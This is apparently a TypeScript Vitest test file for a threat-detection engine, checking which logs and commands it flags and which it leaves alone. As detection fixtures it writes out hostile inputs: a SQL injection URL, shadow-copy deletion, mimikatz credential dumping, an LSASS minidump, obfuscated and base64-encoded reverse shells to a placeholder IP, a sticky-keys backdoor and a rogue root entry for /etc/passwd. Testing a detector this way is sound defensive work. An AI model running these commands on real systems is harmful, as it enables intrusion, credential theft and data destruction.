/** What stands around a request, a command or an event never hides it, and what people write every day is none. */
import { beforeAll, describe, expect, test } from 'vitest';
import { rank } from '../../../server/engine/threat/answer/score.ts';
import type { ThreatEngine } from '../../../server/engine/threat/engine.ts';
import { never, openThreatEngine } from '../../support/threat-engine.ts';

let engine: ThreatEngine;
beforeAll(async () => {
  engine = await openThreatEngine();
});

const judge = async (text: string) => {
  const { severity, findings } = await engine.methods.analyze({ text }, never);
  return { raised: rank(severity) >= rank('medium'), ids: findings.map(({ ruleId }) => ruleId) };
};

const injected = '/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--';

describe('found', () => {
  test.each([
    `GET ${injected} HTTP/1.1 abc`,
    `please look at this: "GET ${injected} HTTP/1.1" 200, is it bad?`,
    `Sep 30 13:05:19 edge nginx[1022]: 198.51.100.7 "GET ${injected} HTTP/1.1" 200 5359`,
    `2026-01-15 04:44:37 172.21.162.159 GET /index.php id=1%27%20UNION%20SELECT%20password%20FROM%20users-- 80 - 198.51.100.4 curl/8 - 200 0 0 3788`,
    `https 2026-01-08T22:24:16.000Z app/api/46dc59b8510f234d 198.51.100.143:57229 10.40.27.145:8080 0.001 1.1 0.0 200 200 1244 17303 "GET https://shop.example:443${injected} HTTP/1.1" "curl/8" - -`,
    'vssadmin delete shadows /all /quiet',
    '14:02 someone ran: cmd /c "v^ssadm^in delete shadows /all" & exit',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'mimikatz.exe sekurlsa::logonpasswords',
    "b''a's'h -c 'e\"x\"ec 5<>/dev/t\\cp/198.51.100.9/7777;cat <&5'",
    'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDQzIDA+JjE= | base64 -d | bash',
    'The agent on web01 saw rundll32 calling comsvcs.dll MiniDump against lsass at night.',
    '告警：主机 dc01 上检测到 mimikatz 执行，凭据已被导出。',
    'copy C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe /y',
    "echo 'toor::0:0:root:/root:/bin/bash' >> /etc/passwd",
    'Subject: note\n\nthe job says:\n  reg save hklm\\sam c:\\temp\\s\nregards',
  ])('%s', async (text) => expect(await judge(text)).toMatchObject({ raised: true }));

  const lines = (count: number, line: (i: number) => string) =>
    Array.from({ length: count }, (_, i) => line(i)).join('\n');
  test.each([
    [
      'anomaly-password-spraying',
      lines(
        6,
        (i) =>
          `{"createdDateTime":"2026-03-15T16:23:5${i}Z","userPrincipalName":"user${i}@example.com","ipAddress":"198.51.100.18","status":{"errorCode":50126}}`,
      ),
    ],
    [
      'anomaly-mfa-fatigue',
      lines(
        4,
        (i) =>
          `{"eventType":"user.mfa.okta_verify.deny_push","published":"2026-02-11T20:12:0${i}.000Z","actor":{"alternateId":"a@example.com"},"outcome":{"result":"FAILURE"}}`,
      ),
    ],
    [
      'anomaly-dns-tunnel',
      lines(
        6,
        (i) =>
          `Jun  5 03:50:4${i} ns named[812]: client @0x7f81 10.1.1.9#16820: query: zv4kwxg5mpzao604njcvwufau1b1x1mjg4ch7ds${i}.t.example IN TXT + (10.0.0.53)`,
      ),
    ],
    [
      'anomaly-port-scan',
      lines(
        20,
        (i) =>
          `17563070${i + 10}.000000\tCnaaf9z8gt95pdlr${i}x\t198.51.100.91\t49482\t10.24.88.169\t${6000 + i * 7}\ttcp\t-\t-\t0\t0\tREJ\tF\tT\t0\tS\t1\t44\t0\t0\t-`,
      ),
    ],
    [
      'anomaly-login-page',
      lines(
        12,
        (i) =>
          `198.51.100.108 - - [24/Oct/2026:13:04:${10 + i} +0800] "POST /wp-login.php HTTP/1.1" 200 4163 "-" "Mozilla/5.0"`,
      ),
    ],
    [
      'anomaly-denied-calls',
      lines(
        6,
        (i) =>
          `{"eventSource":"iam.amazonaws.com","eventName":"List${'ABCDEF'[i]}","sourceIPAddress":"198.51.100.5","userAgent":"aws-cli","errorCode":"AccessDenied","eventTime":"2026-12-29T23:17:2${i}Z"}`,
      ),
    ],
  ])('%s', async (id, text) => expect((await judge(text)).ids).toContain(id));
});

describe('left alone', () => {
  const post = (type: string, body: string) =>
    `POST /api/v1/items HTTP/1.1\nHost: example.com\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\nAccept: */*\nContent-Type: ${type}\n\n${body}`;
  test.each([
    'GET /save?x=%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Ca%2F%3E HTTP/1.1',
    'GET /save?x=%3C%3Fxpacket%20begin%3D%27%27%3F%3E HTTP/1.1',
    'GET /s?ref=It+rained%3B+more+later HTTP/1.1',
    post('application/json', '{"reply":"It rained; more later."}'),
    post('application/json', '{"html":"<p>Hello ${firstName}, your order {{order.id}} has shipped.</p>"}'),
    post('application/json', '{"filter":{"createdAt":{"$gt":"2026-01-01"},"status":{"$in":["paid"]}}}'),
    post('application/json', '{"content":"<iframe src=\\"https://www.youtube.com/embed/abc\\"></iframe>"}'),
    post(
      'image/svg+xml',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/a.dtd"><svg><path d="M1"/></svg>',
    ),
    post(
      'application/json',
      JSON.stringify({ cell: "SELECT name FROM customers WHERE city = 'KL' ORDER BY name;" }),
    ),
    post('application/xml', '<rss><item><![CDATA[<p>Hello</p>]]></item></rss>'),
    post('text/xml', '<methodCall><methodName>system.listMethods</methodName></methodCall>'),
    'GET /files/home/shared/projek/minit.docx HTTP/1.1',
    'GET /actuator/health HTTP/1.1',
    'GET /f HTTP/1.1\nHost: example.com\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\nAccept: */*\nRange: bytes=0-99,200-299,400-499,600-699,800-899,1000-1099',
    'net stop MSSQLSERVER && net start MSSQLSERVER',
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    'Book review: the author explains mimikatz, Kerberos and why service accounts need long passwords.',
    'Jun  1 10:00:00 host sshd[22]: Failed password for alice from 10.0.0.5 port 31443 ssh2',
  ])('%s', async (text) => expect(await judge(text)).toMatchObject({ raised: false }));
});

test('a registry key ends before what follows, and reads as it was written', async () => {
  const text =
    'HKLM\\Software\\Run\\bad C:\\Windows\\Temp\\a.exe and HKCU\\Software\\Run\\Up = C:\\Users\\x\\u.exe';
  const { indicators } = await engine.methods.analyze({ text }, never);
  const values = indicators.map(({ type, value }) => `${type} ${value}`);
  expect(values).toEqual(
    expect.arrayContaining([
      'registry_key HKLM\\Software\\Run\\bad',
      'registry_key HKCU\\Software\\Run\\Up',
      'file_path C:\\Windows\\Temp\\a.exe',
      'file_path C:\\Users\\x\\u.exe',
    ]),
  );
});

test('nobody is told to block an address of the own network', async () => {
  const text = Array.from(
    { length: 6 },
    (_, i) => `Mar  4 09:14:0${i} web01 sshd[9]: Failed password for root from 192.168.1.5 port 22 ssh2`,
  ).join('\n');
  const { recommendedActions } = await engine.methods.analyze({ text }, never);
  expect(recommendedActions.join('\n')).not.toContain('Block 192.168.1.5');
});
